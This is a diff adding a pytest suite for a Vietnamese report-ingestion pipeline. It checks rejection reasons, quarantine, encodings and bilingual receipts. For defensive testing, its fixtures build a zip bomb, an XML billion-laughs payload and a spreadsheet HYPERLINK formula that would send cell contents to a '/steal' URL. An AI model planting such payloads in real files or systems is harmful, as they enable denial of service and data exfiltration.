@@ -1,0 +1,405 @@
+"""Unreadable, unsafe and odd files: each is rejected whole with a reason and the
+run goes on to the next file; CSV in every accepted encoding loads as NFC text."""
+
+from __future__ import annotations
+
+import unicodedata
+import zipfile
+from pathlib import Path
+
+import duckdb
+import pytest
+from fixtures.submissions.builders import (
+    GOOD_INDICATOR,
+    GOOD_TASK,
+    NGHE_AN_KHCN,
+    csv_text,
+    real_reference,
+    received_at,
+    to_cp1258,
+    write_csv,
+    write_xlsx,
+)
+
+from dagster_project.submissions.ingest import ingest_paths
+from dagster_project.submissions.readers import (
+    FileRejected,
+    Limits,
+    check_zip_safety,
+    decode_csv_bytes,
+    read_submission,
+)
+
+
+@pytest.fixture(scope="module")
+def reference():
+    return real_reference()
+
+
+def ingest(tmp_path: Path, reference, *files: Path, limits: Limits = Limits()):
+    store = tmp_path / "store" / "submissions.duckdb"
+    lines: list[str] = []
+    outcomes = ingest_paths(
+        list(files),
+        store=store,
+        reference=reference,
+        now=received_at,
+        progress=lines.append,
+        limits=limits,
+    )
+    return outcomes, store, lines
+
+
+def file_quarantine(store: Path, sha: str) -> list[tuple]:
+    with duckdb.connect(str(store), read_only=True) as con:
+        return con.execute(
+            """
+            select row_number, reason_code, reason_vi, reason_en
+            from raw.submission_quarantine where file_sha256 = ?
+            """,
+            [sha],
+        ).fetchall()
+
+
+def good_xlsx(path: Path) -> Path:
+    return write_xlsx(path, tasks=[GOOD_TASK], indicators=[GOOD_INDICATOR])
+
+
+def truncated_xlsx(tmp_path: Path) -> Path:
+    whole = good_xlsx(tmp_path / "whole.xlsx").read_bytes()
+    path = tmp_path / "in" / "truncated.xlsx"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(whole[: len(whole) // 2])
+    return path
+
+
+def renamed_pdf(tmp_path: Path) -> Path:
+    path = tmp_path / "in" / "bao-cao.xlsx"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer\n%%EOF\n")
+    return path
+
+
+def zip_bomb(tmp_path: Path) -> Path:
+    """An xlsx-shaped zip whose worksheet inflates 1000:1 (8 MB of spaces in 8 kB)."""
+    path = tmp_path / "in" / "bomb.xlsx"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("xl/workbook.xml", "<workbook/>")
+        archive.writestr("xl/worksheets/sheet1.xml", b" " * (8 * 1024 * 1024))
+    return path
+
+
+def entity_expansion_xlsx(tmp_path: Path) -> Path:
+    """A real workbook whose workbook.xml declares nested entities (billion laughs)."""
+    source = good_xlsx(tmp_path / "source.xlsx")
+    path = tmp_path / "in" / "laughs.xlsx"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    payload = (
+        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
+        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&lol2;</workbook>'
+    )
+    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w") as rewritten:
+        for item in original.infolist():
+            data = payload.encode() if item.filename == "xl/workbook.xml" else original.read(item)
+            rewritten.writestr(item, data)
+    return path
+
+
+def empty_file(tmp_path: Path) -> Path:
+    path = tmp_path / "in" / "empty.xlsx"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(b"")
+    return path
+
+
+def undecodable_csv(tmp_path: Path) -> Path:
+    """UTF-16 without a BOM: decodes as UTF-8 with NUL characters."""
+    path = tmp_path / "in" / "utf16-no-bom.csv"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(csv_text("task_progress", [GOOD_TASK]).encode("utf-16-le"))
+    return path
+
+
+def formula_metadata_xlsx(tmp_path: Path) -> Path:
+    metadata = {**NGHE_AN_KHCN, "agency_id": '=HYPERLINK("http://example.com","nghe-an:so-khcn")'}
+    return write_xlsx(tmp_path / "in" / "formula-meta.xlsx", metadata, tasks=[GOOD_TASK])
+
+
+def oversized_csv(tmp_path: Path) -> Path:
+    path = tmp_path / "in" / "big.csv"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    text = csv_text("task_progress", [{**GOOD_TASK, "difficulties": "x" * 30_000}])
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def missing_sheet_xlsx(tmp_path: Path) -> Path:
+    return write_xlsx(
+        tmp_path / "in" / "no-budget.xlsx", tasks=[GOOD_TASK], omit_sheets=("budget_execution",)
+    )
+
+
+def missing_column_xlsx(tmp_path: Path) -> Path:
+    return write_xlsx(
+        tmp_path / "in" / "no-status.xlsx",
+        tasks=[GOOD_TASK],
+        omit_columns={"task_progress": ("status",)},
+    )
+
+
+def missing_metadata_xlsx(tmp_path: Path) -> Path:
+    metadata = {key: value for key, value in NGHE_AN_KHCN.items() if key != "period"}
+    return write_xlsx(tmp_path / "in" / "no-period.xlsx", metadata, tasks=[GOOD_TASK])
+
+
+def version_2_xlsx(tmp_path: Path) -> Path:
+    return write_xlsx(
+        tmp_path / "in" / "v2.xlsx", {**NGHE_AN_KHCN, "format_version": "2"}, tasks=[GOOD_TASK]
+    )
+
+
+def untouched_template_rows(tmp_path: Path) -> Path:
+    row = {
+        "plan_id": "nghe-an-348-2025",
+        "task_key": "I.2",
+        "task_name": "Thành lập Hội đồng tư vấn",
+    }
+    return write_xlsx(tmp_path / "in" / "blank.xlsx", tasks=[row])
+
+
+def pdf_file(tmp_path: Path) -> Path:
+    path = tmp_path / "in" / "bao-cao.pdf"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(b"%PDF-1.4\n%%EOF\n")
+    return path
+
+
+BAD_FILES = [
+    ("truncated_xlsx", truncated_xlsx, "corrupt_xlsx"),
+    ("renamed_pdf", renamed_pdf, "not_xlsx"),
+    ("zip_bomb_ratio", zip_bomb, "zip_bomb"),
+    ("xml_entity_expansion", entity_expansion_xlsx, "unsafe_xml"),
+    ("empty_file", empty_file, "empty_file"),
+    ("csv_wrong_encoding", undecodable_csv, "unreadable_encoding"),
+    ("formula_in_metadata", formula_metadata_xlsx, "formula_in_metadata"),
+    ("oversized", oversized_csv, "file_too_large"),
+    ("missing_sheet", missing_sheet_xlsx, "missing_sheet"),
+    ("missing_column", missing_column_xlsx, "missing_columns"),
+    ("missing_metadata", missing_metadata_xlsx, "missing_metadata"),
+    ("format_version_2", version_2_xlsx, "unsupported_format_version"),
+    ("nothing_filled_in", untouched_template_rows, "no_data"),
+    ("pdf", pdf_file, "unsupported_file_type"),
+]
+
+
+@pytest.mark.parametrize(
+    ("make", "reason_code"), [case[1:] for case in BAD_FILES], ids=[case[0] for case in BAD_FILES]
+)
+def test_unreadable_file_is_rejected_and_the_run_continues(tmp_path, reference, make, reason_code):
+    bad = make(tmp_path)
+    good = good_xlsx(tmp_path / "in" / "zz-good.xlsx")
+    limits = Limits(max_bytes=20_000)
+    (bad_outcome, good_outcome), store, lines = ingest(
+        tmp_path, reference, bad, good, limits=limits
+    )
+
+    assert bad_outcome.status == "rejected"
+    assert bad_outcome.reason_code == reason_code
+    assert (bad_outcome.rows_in, bad_outcome.rows_loaded, bad_outcome.rows_quarantined) == (0, 0, 0)
+    [(row_number, code, reason_vi, reason_en)] = file_quarantine(store, bad_outcome.file_sha256)
+    assert (row_number, code) == (None, reason_code)
+    assert reason_vi and reason_en
+    assert bad_outcome.receipt_path.exists()
+    assert reason_code in lines[0] and "rejected" in lines[0]
+
+    assert good_outcome.status == "accepted"
+    assert good_outcome.rows_loaded == 2
+
+
+def test_formula_cell_in_a_data_row_quarantines_only_that_row(tmp_path, reference):
+    hyperlink = '=HYPERLINK("http://example.com/steal?d="&A1,"Xem chi tiết")'
+    rows = [GOOD_TASK, {**GOOD_TASK, "task_key": "I.3", "output_document": hyperlink}]
+    path = write_xlsx(tmp_path / "in" / "formula.xlsx", tasks=rows)
+    [outcome], store, _ = ingest(tmp_path, reference, path)
+    assert (outcome.status, outcome.rows_loaded, outcome.rows_quarantined) == (
+        "partially_accepted",
+        1,
+        1,
+    )
+    with duckdb.connect(str(store), read_only=True) as con:
+        entry = con.execute(
+            "select row_number, column_name, raw_value, reason_code from raw.submission_quarantine"
+        ).fetchall()
+    assert entry == [(4, "output_document", hyperlink, "formula_cell")]
+    html = outcome.receipt_path.read_text(encoding="utf-8")
+    assert "=HYPERLINK(&#34;http://example.com" in html, "the formula is shown escaped"
+    assert "<a " not in html
+
+
+def test_zip_declared_size_over_limit_is_refused_before_inflating(tmp_path):
+    path = tmp_path / "big.xlsx"
+    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("xl/workbook.xml", b"x" * 300_000)
+    with pytest.raises(FileRejected) as rejected:
+        check_zip_safety(path, Limits(max_uncompressed_bytes=200_000))
+    assert rejected.value.issue.reason_code == "zip_bomb"
+    assert "declared uncompressed size" in rejected.value.issue.detail
+
+
+def test_docx_renamed_xlsx_is_named_as_word(tmp_path):
+    path = tmp_path / "report.xlsx"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<document/>")
+    with pytest.raises(FileRejected) as rejected:
+        read_submission(path)
+    assert rejected.value.issue.reason_code == "not_xlsx"
+    assert "Word document" in rejected.value.issue.detail
+
+
+DIFFICULTY = "Thiếu nhân lực; chờ hướng dẫn của Bộ Khoa học và Công nghệ"
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1258"])
+def test_csv_loads_in_each_encoding_as_nfc(tmp_path, reference, encoding):
+    row = {**GOOD_TASK, "difficulties": DIFFICULTY}
+    path = write_csv(
+        tmp_path / "in" / f"tasks-{encoding}.csv", "task_progress", [row], encoding=encoding
+    )
+    [outcome], store, _ = ingest(tmp_path, reference, path)
+    assert outcome.status == "accepted"
+    with duckdb.connect(str(store), read_only=True) as con:
+        ((stored, status),) = con.execute(
+            "select difficulties, status from raw.submission_rows"
+        ).fetchall()
+        (recorded,) = con.execute("select encoding from raw.submission_files").fetchone()
+    assert recorded == encoding
+    assert stored == DIFFICULTY
+    assert unicodedata.is_normalized("NFC", stored)
+    assert status == "Hoàn thành"
+
+
+def test_cp1258_bytes_hold_combining_tone_marks_and_decode_to_nfc():
+    data = to_cp1258("Thiếu nhân lực")
+    with pytest.raises(UnicodeDecodeError):
+        data.decode("utf-8")
+    assert not unicodedata.is_normalized("NFC", data.decode("cp1258"))
+    text, encoding = decode_csv_bytes(data)
+    assert (text, encoding) == ("Thiếu nhân lực", "cp1258")
+
+
+def test_nfd_utf8_csv_is_normalized(tmp_path, reference):
+    row = {**GOOD_TASK, "difficulties": unicodedata.normalize("NFD", DIFFICULTY)}
+    path = write_csv(tmp_path / "in" / "nfd.csv", "task_progress", [row])
+    [outcome], store, _ = ingest(tmp_path, reference, path)
+    with duckdb.connect(str(store), read_only=True) as con:
+        (stored,) = con.execute("select difficulties from raw.submission_rows").fetchone()
+    assert stored == DIFFICULTY
+
+
+def test_semicolon_csv_from_vietnamese_excel(tmp_path, reference):
+    path = write_csv(
+        tmp_path / "in" / "semicolon.csv", "indicator_values", [GOOD_INDICATOR], delimiter=";"
+    )
+    [outcome], store, _ = ingest(tmp_path, reference, path)
+    assert outcome.status == "accepted"
+    with duckdb.connect(str(store), read_only=True) as con:
+        assert con.execute(
+            "select value_text, csv_delimiter from raw.submission_rows, raw.submission_files"
+        ).fetchone() == (
+            "45,5",
+            ";",
+        )
+
+
+def test_csv_unknown_sheet_kind_is_rejected(tmp_path, reference):
+    text = csv_text("task_progress", [GOOD_TASK]).replace("task_progress", "tien_do", 1)
+    text = text.replace(",task_progress,", ",tien_do,")
+    path = tmp_path / "in" / "kind.csv"
+    path.parent.mkdir(parents=True)
+    path.write_text(text, encoding="utf-8")
+    [outcome], _, _ = ingest(tmp_path, reference, path)
+    assert outcome.reason_code == "unknown_sheet_kind"
+
+
+def test_extra_columns_and_sheets_are_kept_and_reported(tmp_path, reference):
+    from openpyxl import load_workbook
+
+    path = good_xlsx(tmp_path / "in" / "extra.xlsx")
+    workbook = load_workbook(path)
+    tasks = workbook["task_progress"]
+    tasks.cell(row=1, column=20, value="người báo cáo")
+    tasks.cell(row=3, column=20, value="Nguyễn Văn A")
+    workbook.create_sheet("Ghi chú").append(["ghi chú riêng"])
+    workbook.save(path)
+    [outcome], store, _ = ingest(tmp_path, reference, path)
+    assert outcome.status == "accepted"
+    with duckdb.connect(str(store), read_only=True) as con:
+        extra = con.execute(
+            "select extra_columns from raw.submission_rows where sheet = 'task_progress'"
+        ).fetchone()[0]
+        ignored = con.execute("select ignored_sheets from raw.submission_files").fetchone()[0]
+    assert extra == '{"người báo cáo": "Nguyễn Văn A"}'
+    assert ignored == ["Ghi chú"]
+    assert "Ghi chú" in outcome.receipt_path.read_text(encoding="utf-8")
+
+
+def test_every_file_balances_rows_in_against_the_tables(tmp_path, reference):
+    files = [
+        good_xlsx(tmp_path / "in" / "a.xlsx"),
+        write_xlsx(
+            tmp_path / "in" / "b.xlsx", tasks=[GOOD_TASK, {**GOOD_TASK, "task_key": "IX.9"}]
+        ),
+        renamed_pdf(tmp_path),
+        write_csv(
+            tmp_path / "in" / "c.csv",
+            "task_progress",
+            [GOOD_TASK, {**GOOD_TASK, "task_key": "I.3", "status": "?"}],
+        ),
+    ]
+    outcomes, store, _ = ingest(tmp_path, reference, *files)
+    with duckdb.connect(str(store), read_only=True) as con:
+        summary = con.execute(
+            "select file_name, rows_in, rows_loaded, rows_quarantined, is_balanced from raw.quarantine_summary"
+        ).fetchall()
+    assert len(summary) == len(files)
+    assert all(row[4] for row in summary)
+    for outcome in outcomes:
+        assert outcome.rows_in == outcome.rows_loaded + outcome.rows_quarantined
+
+
+def test_read_submission_never_evaluates_excel_number_formats_as_text(tmp_path):
+    path = write_xlsx(
+        tmp_path / "numbers.xlsx",
+        {**NGHE_AN_KHCN, "format_version": 1},
+        indicators=[{**GOOD_INDICATOR, "indicator_code": 9.1, "value_text": 2026}],
+    )
+    parsed = read_submission(path)
+    assert parsed.metadata["format_version"] == "1"
+    [row] = [r for r in parsed.rows if r.sheet == "indicator_values"]
+    assert row.values["indicator_code"] == "9.1"
+    assert row.values["value_text"] == "2.026"
+
+
+def test_receipt_is_bilingual(tmp_path, reference):
+    path = write_xlsx(
+        tmp_path / "in" / "r.xlsx",
+        tasks=[GOOD_TASK, {**GOOD_TASK, "task_key": "I.3", "status": "Xong"}],
+    )
+    [outcome], _, lines = ingest(tmp_path, reference, path)
+    html = outcome.receipt_path.read_text(encoding="utf-8")
+    assert outcome.receipt_path.name.startswith(outcome.file_sha256[:12] + "-")
+    for text in (
+        "Biên nhận báo cáo",
+        "Submission receipt",
+        "Chấp nhận một phần",
+        "Partially accepted",
+        "Tình trạng &#39;Xong&#39; không hợp lệ",
+        "Status &#39;Xong&#39; is invalid",
+    ):
+        assert text in html
+    assert str(outcome.receipt_path) in lines[0]
